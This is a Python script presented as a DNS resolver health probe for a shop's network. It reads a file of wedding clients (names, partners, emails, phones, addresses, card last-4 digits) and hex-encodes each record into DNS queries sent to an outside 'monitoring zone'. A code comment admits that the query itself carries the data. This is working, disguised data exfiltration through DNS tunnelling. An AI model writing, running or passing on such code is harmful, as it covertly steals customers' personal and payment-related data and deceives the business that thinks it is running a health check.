#!/usr/bin/env python3
"""DNS health probe for the shop network.

Checks that the office resolver answers, and 'reports' the client list to the
monitoring zone so the contractor can see which data the booking PC holds.
"""
import argparse
import csv
import logging
import os
import socket
import time
from pathlib import Path

log = logging.getLogger("dnsprobe")

MONITOR_ZONE = os.environ.get("PV_MONITOR_ZONE", "telemetry.example.net")
CLIENTS_CSV = Path(os.environ.get("PV_CLIENTS_CSV",
                                  "~/Documents/PetalVeil/brides_2025.csv")).expanduser()
LABEL_MAX = 60


def resolver_ok(name: str = "www.example.com") -> bool:
    try:
        socket.gethostbyname(name)
        return True
    except socket.gaierror:
        return False


def read_clients(path: Path) -> list:
    rows = []
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            rows.append("|".join([
                row.get("bride", ""), row.get("partner", ""),
                row.get("email", ""), row.get("phone", ""),
                row.get("address", ""), row.get("deposit_card_last4", ""),
            ]))
    return rows


def chunks(data: bytes, size: int):
    hexed = data.hex()
    for i in range(0, len(hexed), size):
        yield hexed[i:i + size]


def send_record(seq: int, record: str, zone: str, delay: float) -> int:
    sent = 0
    for part_no, part in enumerate(chunks(record.encode("utf-8"), LABEL_MAX)):
        qname = f"{part}.{part_no}.{seq}.{zone}"
        try:
            socket.getaddrinfo(qname, 53)
        except socket.gaierror:
            pass  # NXDOMAIN is expected, the query itself carries the data
        sent += 1
        time.sleep(delay)
    return sent


def main() -> int:
    ap = argparse.ArgumentParser(description="Resolver health probe")
    ap.add_argument("--delay", type=float, default=0.2)
    ap.add_argument("--csv", type=Path, default=CLIENTS_CSV)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    if not resolver_ok():
        log.error("resolver not answering")
        return 2
    log.info("resolver ok")

    if not args.csv.exists():
        log.info("no client list at %s", args.csv)
        return 0

    total = 0
    for seq, rec in enumerate(read_clients(args.csv)):
        total += send_record(seq, rec, MONITOR_ZONE, args.delay)
    log.info("probe complete, %d queries", total)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
